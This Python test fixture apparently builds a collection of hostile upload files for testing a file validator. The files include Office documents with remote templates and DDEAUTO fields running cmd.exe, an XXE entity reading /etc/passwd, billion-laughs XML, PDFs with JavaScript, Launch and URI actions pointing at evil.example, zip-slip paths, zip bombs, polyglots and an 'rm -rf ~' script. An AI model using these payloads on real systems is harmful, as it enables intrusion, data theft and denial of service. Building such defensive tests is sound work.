"""The upload zoo: files made to harm whoever takes them in, opens them or unpacks them. All are made here, by code."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests.pictures import photograph

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@dataclass(frozen=True, slots=True)
class Animal:
    """A file with what is said of it where files are taken in; `kept` where it is taken as evidence all the same."""

    what: str
    name: str
    data: bytes
    code: str
    kept: bool = False


def zipped(parts: dict[str, bytes | str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def relation(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationship Id="r9" Type="{R}/{kind}" Target="{target}"{mode}/>'


def relations(*said: str) -> str:
    return f'<Relationships xmlns="{RELS}">{"".join(said)}</Relationships>'


def docx(*related: str, body: str = "", head: str = "", main: str = MAIN, **more: bytes | str) -> bytes:
    """A document as an office program writes it, with these relations and what else stands in it."""
    text = f"<w:p><w:r><w:t>整改情况</w:t></w:r></w:p>{body}"
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            f'relationships+xml"/><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
        ),
        "_rels/.rels": relations(relation("officeDocument", "word/document.xml", "")),
        "word/document.xml": f'{head}<w:document xmlns:w="{W}"><w:body>{text}</w:body></w:document>',
        "word/_rels/document.xml.rels": relations(*related),
    }
    return zipped(parts | {_path(name): data for name, data in more.items()})


def _path(name: str) -> str:
    """`word__media__a_bin` is word/media/a.bin."""
    return ".".join(name.replace("__", "/").rsplit("_", 1))


def xlsx(*related: str, head: str = "", sheet: str = "", types: str = "") -> bytes:
    """A workbook with one sheet."""
    book = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return zipped(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                f'relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{book}"/>'
                f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}"/>{types}</Types>'
            ),
            "_rels/.rels": relations(relation("officeDocument", "xl/workbook.xml", "")),
            "xl/workbook.xml": (
                f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="台账" sheetId="1" r:id="r1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": relations(
                f'<Relationship Id="r1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>', *related
            ),
            "xl/worksheets/sheet1.xml": f'{head}<worksheet xmlns="{S}"><sheetData>{sheet}</sheetData></worksheet>',
        }
    )


def pdf(catalog: str = "", *objects: str, tail: bytes = b"", trailer: str = "") -> bytes:
    """A page of nothing, and what else stands in the file; objects are numbered from 4."""
    said = [f"<< /Type /Catalog /Pages 2 0 R {catalog} >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"]
    said += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", *objects]
    out = b"%PDF-1.7\n"
    places = []
    for number, one in enumerate(said, 1):
        places.append(len(out))
        out += f"{number} 0 obj\n{one}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    end = f"xref\n0 {len(said) + 1}\n0000000000 65535 f \n{table}trailer << /Size {len(said) + 1} /Root 1 0 R {trailer} >>\n"
    return out + end.encode() + f"startxref\n{len(out)}\n%%EOF\n".encode() + tail


def packed_objects(*objects: str, marks: str = "/Type /ObjStm", filters: str = "/Filter /FlateDecode") -> str:
    """Objects that are packed together, as newer programs write them."""
    places, text = [], ""
    for number, one in enumerate(objects, 20):
        places.append(f"{number} {len(text)}")
        text += one + " "
    head = " ".join(places) + " "
    data = zlib.compress((head + text).encode())
    said = f"<< {marks} /N {len(objects)} /First {len(head)} {filters} /Length {len(data)} >>"
    return f"{said}\nstream\n{data.decode('latin-1')}\nendstream"


def field(code: str, pieces: int = 1) -> str:
    """A field whose code stands in several pieces."""
    size = -(-len(code) // pieces)
    cut = [code[at : at + size] for at in range(0, len(code), size)]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>' for one in cut)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


def part_with(body: str) -> str:
    """A part that Word reads whatever its name is, because relations may name any."""
    return f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'


def linked(name: str, target: str) -> bytes:
    """A zip in which a name leads elsewhere when it is unpacked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        link = zipfile.ZipInfo(name)
        link.create_system, link.external_attr = 3, 0o120777 << 16
        package.writestr(link, target)
    return out.getvalue()


def locked(data: bytes) -> bytes:
    """A zip that says that its files are encrypted."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + at] |= 1
            place = out.find(mark, place + 4)
    return bytes(out)


def overlapping(copies: int = 300) -> bytes:
    """A zip in which many names stand for the same packed bytes."""
    data = zipped({"a.txt": b"0" * 700_000})
    end = data.rfind(b"PK\x05\x06")
    at = data.find(b"PK\x01\x02")
    directory = data[at:end] * copies
    return data[:at] + directory + struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, copies, copies, len(directory), at, 0)


def endless_directory() -> bytes:
    """A zip of 100,000 files of nothing: its list of contents alone would fill the memory."""
    entry = struct.pack("<4sHHHHHHLLLHHHHHLL", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 100_000
    return (
        b"PK\x03\x04" + directory + struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), 4, 0)
    )


def claims(across: int, down: int) -> bytes:
    """A PNG that claims to be vast and holds nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = struct.pack(">LLBBBBB", across, down, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


@cache
def zoo() -> tuple[Animal, ...]:
    """Return every animal."""
    return (*_office(), *_pdfs(), *_zips(), *_others())


def _office() -> Iterator[Animal]:
    acts = {
        "a remote template": docx(relation("attachedTemplate", "http://evil.example/a.dotm")),
        "a template on a share": docx(relation("attachedTemplate", r"\\evil.example\a.dotm")),
        "a template by WebDAV": docx(relation("attachedTemplate", "file://evil.example/a.dotm")),
        "a picture from elsewhere": docx(relation("image", "https://evil.example/spy.png")),
        "an OLE link": docx(relation("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x")),
        "an embedded object": docx(relation("oleObject", "embeddings/a.bin", ""), word__embeddings__a_bin=OLE),
        "an ActiveX control": docx(relation("control", "activeX/a.xml", "")),
        "a foreign piece": docx(relation("aFChunk", "evil.html", "")),
        "a frame": docx(relation("frame", "http://evil.example")),
        "a source of serial letters": docx(relation("mailMergeSource", "file:///c:/a.mdb")),
        "a link that runs a program": docx(relation("hyperlink", "ms-msdt:/id PCWDiagnostic")),
        "a link to a share": docx(relation("hyperlink", r"\\evil.example\c$")),
        "DDE": docx(body=field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')),
        "DDE in pieces": docx(body=field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', 9)),
        "DDE in a part of another name": docx(odd__part_xml=part_with(field(" DDEAUTO c:\\\\windows\\\\cmd.exe "))),
        "a text from elsewhere": docx(
            body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example&quot; "/></w:p>'
        ),
    }
    for what, data in acts.items():
        yield Animal(f"docx with {what}", "方案.docx", data, "file_acts", kept=True)
    books = {
        "a link to another workbook": xlsx(relation("externalLink", "externalLinks/externalLink1.xml", "")),
        "a connection to data": xlsx(relation("connections", "connections.xml", "")),
        "an embedded object": xlsx(relation("oleObject", "../embeddings/a.bin", "")),
    }
    for what, data in books.items():
        yield Animal(f"xlsx with {what}", "台账.xlsx", data, "file_acts", kept=True)
    macro = '<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    macros = {
        ("docx with macros under another name", "方案.docx"): docx(relation("vbaProject", "harmless.bin", "")),
        ("docx of the kind with macros", "方案.docx"): docx(
            main="application/vnd.ms-word.document.macroEnabled.main+xml"
        ),
        ("xlsx with a sheet of macros", "台账.xlsx"): xlsx(types=macro),
        ("xlsx that relates to one", "台账.xlsx"): xlsx(relation("xlMacrosheet", "macrosheets/s.xml", "")),
        ("doc with macros", "公文.doc"): OLE + "WordDocument_VBA_PROJECT".encode("utf-16-le"),
    }
    for (what, name), data in macros.items():
        yield Animal(what, name, data, "file_macros")
    for what, head in {"laughs": LAUGHS, "an entity from elsewhere": OUTSIDE}.items():
        yield Animal(f"docx with {what}", "方案.docx", docx(head=head), "file_doctype")
        yield Animal(f"xlsx with {what}", "台账.xlsx", xlsx(head=head), "file_doctype")
        utf16 = head.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")
        yield Animal(f"docx with {what} in UTF-16", "方案.docx", docx(customXml__item1_xml=utf16), "file_doctype")
    yield Animal("docx that unfolds", "方案.docx", docx(word__media__a_bin=b"0" * 60_000_000), "file_zip_bomb")
    yield Animal("docx that is locked", "方案.docx", locked(docx()), "file_encrypted")
    yield Animal("docx with a password", "方案.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "file_encrypted")
    slides = {"[Content_Types].xml": f'<Types xmlns="{TYPES}"/>', "ppt/presentation.xml": "<p/>"}
    yield Animal("slides", "汇报.pptx", zipped({**slides}), "file_office_kind")
    yield Animal("slides with macros", "汇报.pptx", zipped({**slides, "ppt/vbaProject.bin": OLE}), "file_macros")
    sheet = b"\x85\x00\x0c\x00\x10\x00\x00\x00\x00\x01\x04\x00abcd"
    yield Animal(
        "xls with macros of Excel 4.0", "台账.xls", OLE + "Workbook".encode("utf-16-le") + sheet, "file_acts", True
    )
    inside = "WordDocument\x01Ole10Native".encode("utf-16-le")
    yield Animal("doc with an embedded program", "公文.doc", OLE + inside, "file_acts", True)


def _pdfs() -> Iterator[Animal]:
    acts = {
        "a script": pdf("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        "a script by name": pdf("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "<< /S /JavaScript /JS (x) >>"),
        "a script whose name is written otherwise": pdf("/OpenAction 4 0 R", "<< /S /J#61va#53cript /JS (x) >>"),
        "a script in packed objects": pdf("/OpenAction 20 0 R", packed_objects("<< /S /JavaScript /JS (x) >>")),
        "a script in packed objects without a mark": pdf(
            "", packed_objects("<< /S /JavaScript >>", marks="/Type 9 0 R")
        ),
        "packed objects that nobody reads": pdf(
            "", packed_objects("<< >>", filters="/Filter [/ASCIIHexDecode /FlateDecode]")
        ),
        "a program to run": pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "an address that opens by itself": pdf("/OpenAction << /S /URI /URI (http://evil.example) >>"),
        "an address behind a reference": pdf("/OpenAction 4 0 R", "<< /S /URI /URI (http://evil.example) >>"),
        "an address in packed objects": pdf(
            "/OpenAction 20 0 R", packed_objects("<< /S /URI /URI (http://evil.example) >>")
        ),
        "more actions than anybody looks through": pdf(" ".join(f"/AA {n} 0 R" for n in range(9, 300))),
        "an action of a page": pdf("/AA << /WC << /S /URI /URI (http://evil.example) >> >>"),
        "a file inside": pdf("/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"),
        "a file beside a remark": pdf(
            "", "<< /Type /Filespec /EF << /F 5 0 R >> >>", "<< /Type /EmbeddedFile >>\nstream\n\nendstream"
        ),
        "a form that changes": pdf("/AcroForm << /XFA [(template) 4 0 R] >>"),
        "a form that sends": pdf("", "<< /S /SubmitForm /F (http://evil.example) >>"),
        "a film": pdf("", "<< /Subtype /RichMedia >>"),
        "another file to open": pdf("", "<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >>"),
        "a password": pdf("", "<< /Filter /Standard >>", trailer="/Encrypt 4 0 R"),
        "a zip behind it": pdf(tail=zipped({"a.txt": "x"})),
    }
    for what, data in acts.items():
        yield Animal(f"pdf with {what}", "报告.pdf", data, "file_acts", kept=True)


def _zips() -> Iterator[Animal]:
    paths = {
        "out of the folder": zipped({"../../etc/cron.d/a": "x"}),
        "deep out of the folder": zipped({"a/b/../../../c": "x"}),
        "from the root": zipped({"/etc/passwd": "x"}),
        "on a drive": zipped({"C:evil.txt": "x"}),
        "with backslashes": zipped({"..\\evil.txt": "x"}),
        "in a folder by backslash": zipped({"a\\b.txt": "x"}),
        "by a link": linked("照片", "/etc"),
    }
    for what, data in paths.items():
        yield Animal(f"zip with a name {what}", "附件.zip", data, "file_zip_path")
    nested = {
        "a zip": zipped({"内.zip": zipped({"a.txt": "x"})}),
        "a zip under another name": zipped({"照片.jpg": zipped({"a.txt": "x"})}),
        "an archive of another kind": zipped({"a.dat": b"Rar!\x1a\x07\x00"}),
        "a tar": zipped({"a.tar.gz": b"\x1f\x8b\x08"}),
        "a disk": zipped({"a.iso": b"x"}),
    }
    for what, data in nested.items():
        yield Animal(f"zip with {what}", "附件.zip", data, "file_zip_nested")
    bombs = {
        "that unfolds": zipped({"a.txt": b"0" * 60_000_000}),
        "of countless files": zipped({f"{n}.txt": "" for n in range(5001)}, zipfile.ZIP_STORED),
        "whose files overlap": overlapping(),
    }
    for what, data in bombs.items():
        yield Animal(f"zip {what}", "附件.zip", data, "file_zip_bomb")
    yield Animal("zip with an endless list", "附件.zip", endless_directory(), "file_broken")
    yield Animal("zip that is cut off", "附件.zip", zipped({"a.txt": "x" * 99})[:60], "file_broken")
    yield Animal("zip with a password", "附件.zip", locked(zipped({"a.txt": "x"})), "file_encrypted")
    yield Animal("zip with a program", "附件.zip", zipped({"照片/看.exe": b"x"}), "file_program")
    yield Animal("zip with a hidden program", "附件.zip", zipped({"照片.jpg": b"MZ\x90\x00"}), "file_program")
    macros = docx(relation("vbaProject", "a.bin", ""))
    yield Animal("zip with a docx with macros", "附件.zip", zipped({"方案.docx": macros}), "file_acts", True)
    yield Animal(
        "zip with a pdf that acts",
        "附件.zip",
        zipped({"报告.pdf": pdf("/OpenAction << /S /Launch >>")}),
        "file_acts",
        True,
    )


def _others() -> Iterator[Animal]:
    small = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(small, "PNG")
    png = small.getvalue()
    yield Animal(
        "picture that is a zip too",
        "照片.jpg",
        photograph(across=64, down=48) + zipped({"a.js": "x"}),
        "file_acts",
        True,
    )
    yield Animal("picture that is a page", "照片.png", b"<html><script>alert(1)</script>" + png, "file_kind")
    yield Animal(
        "page that says it is a picture", "照片.png", b"<!DOCTYPE html><script>alert(1)</script>", "file_markup"
    )
    yield Animal(
        "svg with a script",
        "图.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
        "file_markup",
    )
    yield Animal(
        "svg that laughs",
        "图.svg",
        (LAUGHS + '<svg xmlns="http://www.w3.org/2000/svg">&j;</svg>').encode(),
        "file_markup",
    )
    yield Animal("xml that laughs", "数据.xml", f"{LAUGHS}<l>&j;</l>".encode(), "file_markup")
    yield Animal("xml from elsewhere", "数据.xml", f"{OUTSIDE}<l>&x;</l>".encode(), "file_markup")
    yield Animal("program", "照片.jpg", b"MZ\x90\x00" + b"\0" * 600, "file_program")
    yield Animal("script", "说明.txt", b"#!/bin/sh\nrm -rf ~\n", "file_program")
    yield Animal("shortcut", "说明.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 99, "file_program")
    yield Animal("installer", "说明.doc", OLE, "file_kind")
    yield Animal("nothing", "报告.pdf", b"", "file_empty")
    yield Animal("pdf that says it is a picture", "照片.png", pdf(), "file_misnamed")
    yield Animal("noise", "附件.dat", bytes(range(256)) * 40, "file_kind")
